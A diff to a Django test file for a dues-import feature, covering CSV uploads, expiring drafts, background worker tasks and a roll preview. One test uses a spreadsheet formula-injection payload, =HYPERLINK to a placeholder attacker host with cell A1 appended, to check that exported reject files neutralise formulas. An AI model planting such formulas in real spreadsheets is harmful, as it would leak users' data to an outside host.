@@ -13,6 +13,7 @@ from django.test import Client
 from django.utils import timezone
 from openpyxl import Workbook
 
+from dues import tasks
 from dues.imports import drafts
 from dues.models import DataLoad, Due, ImportDraft, Settlement
 from members.models import Assignment, Member, User
@@ -101,7 +102,7 @@ def test_an_empty_file_is_refused_in_the_words_of_peru(teresa: User) -> None:
     assert "El archivo está vacío." in answer.content.decode()
 
 
-@pytest.mark.parametrize("content", [HEADER.encode("utf-16"), b"PK\x03\x04 x", f"{HEADER}\n{'x' * 200_000}".encode()])
+@pytest.mark.parametrize("content", [b"%PDF-1.7", b"PK\x03\x04 x", f"{HEADER}\n{'x' * 200_000}".encode()])
 def test_a_file_that_cannot_be_read_has_no_rows_to_download(teresa: User, content: bytes) -> None:
     browser = client_of(teresa)
     file = SimpleUploadedFile("cuotas.csv", content)
@@ -116,8 +117,8 @@ def test_what_a_bank_wrote_is_no_formula_in_the_file_of_rejects(rosa: Member, te
     upload(browser, '=HYPERLINK("http://malo.example/?"&A1);colegiado;03/2025;-30.00;31/03/2025;@SUM(A1)')
     draft = ImportDraft.objects.get()
     rejected = browser.get(f"{UPLOAD}{draft.pk}/rechazos.csv").getvalue().decode("utf-8-sig").splitlines()
-    assert rejected[1].startswith("\"'=HYPERLINK(")
-    assert ";-30.00;31/03/2025;'@SUM(A1);" in rejected[1]
+    assert rejected[1].startswith('"=""=HYPERLINK(')
+    assert ';-30.00;31/03/2025;"=""@SUM(A1)""";' in rejected[1]
 
 
 def test_a_total_that_differs_is_confirmed_by_a_tick(rosa: Member, teresa: User, ursula: User) -> None:
@@ -172,7 +173,7 @@ def test_a_draft_is_the_treasurys_for_a_day(rosa: Member, teresa: User, ursula: 
     assert client_of(ana).get(UPLOAD).status_code == 302
     assert client_of(ursula).get(page).status_code == 200
     ImportDraft.objects.update(made_at=timezone.now() - timedelta(hours=25))
-    assert client_of(ursula).get(page).status_code == 404
+    assert "súbalo otra vez" in client_of(ursula).get(page, follow=True).content.decode()
     assert drafts.forget_old() == 1
 
 
@@ -230,3 +231,53 @@ def test_the_sum_of_a_load_is_read_at_a_glance(total: Decimal | None, shown: str
     page = client_of(teresa).get("/admin/dues/dataload/").content.decode()
 
     assert f'<td class="field-total nowrap">{shown}</td>' in page or f'<td class="field-total">{shown}</td>' in page
+
+
+def test_a_large_file_is_tried_and_loaded_by_the_worker(
+    rosa: Member, teresa: User, monkeypatch: pytest.MonkeyPatch, django_capture_on_commit_callbacks: Any
+) -> None:
+    """The browser may be closed meanwhile: the page of each step is found again in the list."""
+    monkeypatch.setattr(drafts, "LARGEST_AT_ONCE", 10)
+    browser = client_of(teresa)
+
+    with django_capture_on_commit_callbacks(execute=True):
+        shown = upload(browser, MARCH).content.decode()
+    draft = ImportDraft.objects.get()
+    assert "Puede cerrar esta página" in shown
+    assert "cuotas.csv" in browser.get(f"{UPLOAD}en-curso/").content.decode()
+    tasks.try_draft(draft.pk)
+    assert "Primeras filas, como se entendieron" in browser.get(f"{UPLOAD}{draft.pk}/").content.decode()
+    browser.post(f"{UPLOAD}{draft.pk}/confirmar/")
+    assert not Due.objects.exists()
+    tasks.load_draft(draft.pk, {"again": False, "despite_warnings": False, "leave_out_bad_rows": False})
+
+    done = browser.get(f"{UPLOAD}{draft.pk}/", follow=True).content.decode()
+
+    assert "Se cargó cuotas.csv" in done
+    assert Due.objects.count() == 1
+
+
+def test_a_large_file_that_is_refused_says_why_on_its_page(
+    rosa: Member, teresa: User, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(drafts, "LARGEST_AT_ONCE", 10)
+    browser = client_of(teresa)
+    upload(browser, MARCH, MARCH.replace("30.00", "treinta"))
+    draft = ImportDraft.objects.get()
+    tasks.try_draft(draft.pk)
+    browser.post(f"{UPLOAD}{draft.pk}/confirmar/")
+
+    tasks.load_draft(draft.pk, {"again": False, "despite_warnings": False, "leave_out_bad_rows": False})
+
+    assert "No se guardó nada: hay filas con errores." in browser.get(f"{UPLOAD}{draft.pk}/").content.decode()
+
+
+def test_a_preview_of_a_roll_shows_who_changes(rosa: Member, teresa: User) -> None:
+    header = "cmp;apellidos;nombres;tipo_documento;numero_documento;consejo;sede;fecha_colegiacion;estado"
+    council = rosa.regional_council
+    row = f"12345;Otra;Rosa;DNI;{rosa.document_number};{council.roman};{council.name};15/03/2010;activo"
+    file = SimpleUploadedFile("padron.csv", f"{header}\n{row}\n".encode())
+
+    page = client_of(teresa).post(UPLOAD, {"content": "roll", "file": file}, follow=True).content.decode()
+
+    assert "<td>12345</td><td>Núñez Peña Rosa</td><td>Otra Rosa</td>" in page
